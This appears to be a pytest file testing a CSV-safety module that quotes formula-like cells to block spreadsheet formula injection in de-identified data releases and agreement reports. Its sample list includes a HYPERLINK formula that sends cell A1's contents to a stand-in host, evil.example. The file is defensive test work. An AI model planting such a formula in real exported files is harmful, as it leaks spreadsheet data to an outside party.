"""CSV formula injection: every CSV Blindspot writes neutralises formula-like cells (OWASP)."""

from __future__ import annotations

import csv
import io
import json

import pytest

from pipeline import csvsafe
from pipeline.metrics.agreement import AgreementReport, Figure
from pipeline.surrogates.batch import deidentify_file
from pipeline.surrogates.fields import FieldPolicy

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=2+5", "-2+3", "+1", "@SUM(A1)",
            "\tx", "\rx"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_cells_get_a_quote(text):
    assert csvsafe.escape_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Maria", "3/4 is bigger", "", "'quoted", 0, -2, -0.125, None])
def test_other_cells_and_numbers_are_left_alone(value):
    assert csvsafe.escape_cell(value) == value


@pytest.mark.parametrize("text", [*FORMULAS, "'=2+5", "''-1", "'plain", "plain", ""])
def test_escape_is_reversible(text):
    assert csvsafe.unescape_cell(csvsafe.escape_cell(text)) == text


def test_writers_escape_rows_and_dicts():
    buf = io.StringIO()
    csvsafe.writer(buf, lineterminator="\n").writerows([["=1+1", -3, "ok"]])
    w = csvsafe.DictWriter(buf, fieldnames=["a", "b"], lineterminator="\n")
    w.writeheader()
    w.writerow({"a": "@x", "b": -0.5})
    assert buf.getvalue() == "'=1+1,-3,ok\na,b\n'@x,-0.5\n"


def _corpus_csv(path):
    with open(path, "w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["dialogue_id", "seq", "speaker", "text"])
        for i, text in enumerate(FORMULAS[:3] + ["plain text"]):
            w.writerow(["=d1", i, "-Tutor", text])


def test_csv_release_neutralises_formulas_and_jsonl_stays_exact(tmp_path):
    """``deidentify formula.csv --out rel.csv`` (no spans): formulas quoted; JSONL unchanged."""
    src = tmp_path / "formula.csv"
    _corpus_csv(src)
    keep_ids = FieldPolicy(id="keep")  # the id itself is a formula here
    deidentify_file(src, tmp_path / "rel.csv", key="test-key-123", mapping=False, fields=keep_ids)
    with open(tmp_path / "rel.csv", newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["text"] for r in rows] == ["'" + t for t in FORMULAS[:3]] + ["plain text"]
    assert {r["dialogue_id"] for r in rows} == {"'=d1"} and {r["speaker"] for r in rows} == {"'-Tutor"}
    assert [r["seq"] for r in rows] == ["0", "1", "2", "3"]

    deidentify_file(src, tmp_path / "rel.jsonl", key="test-key-123", mapping=False, fields=keep_ids)
    obj = json.loads((tmp_path / "rel.jsonl").read_text(encoding="utf-8"))
    assert obj["id"] == "=d1" and [m["text"] for m in obj["messages"]] == FORMULAS[:3] + ["plain text"]


def test_agreement_report_csv_quotes_formulas_not_numbers():
    report = AgreementReport(annotators=("=evil", "b"), labels=("NAME",), n_items=1, n_dialogues=1,
                             n_tokens=1, n_boot=0, confidence=0.95, seed=0,
                             figures=[Figure(metric="cohen_kappa", level="token", scheme="typed",
                                             pair="=evil~b", by="all", group="all", value=-0.25,
                                             ci_low=-0.5, ci_high=0.1, n=3)])
    row = next(csv.DictReader(io.StringIO(report.to_csv())))
    assert row["pair"] == "'=evil~b" and row["value"] == "-0.25" and row["ci_low"] == "-0.5"


def test_no_csv_writer_bypasses_csvsafe():
    """Every CSV writer in the code goes through pipeline.csvsafe (reading CSV is fine)."""
    import re
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    pattern = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    offenders = [str(path.relative_to(root)) for folder in ("annotator", "pipeline", "bench")
                 for path in (root / folder).rglob("*.py")
                 if path.name != "csvsafe.py" and pattern.search(path.read_text(encoding="utf-8"))]
    assert not offenders, f"use pipeline.csvsafe.writer / DictWriter instead of csv in {offenders}"
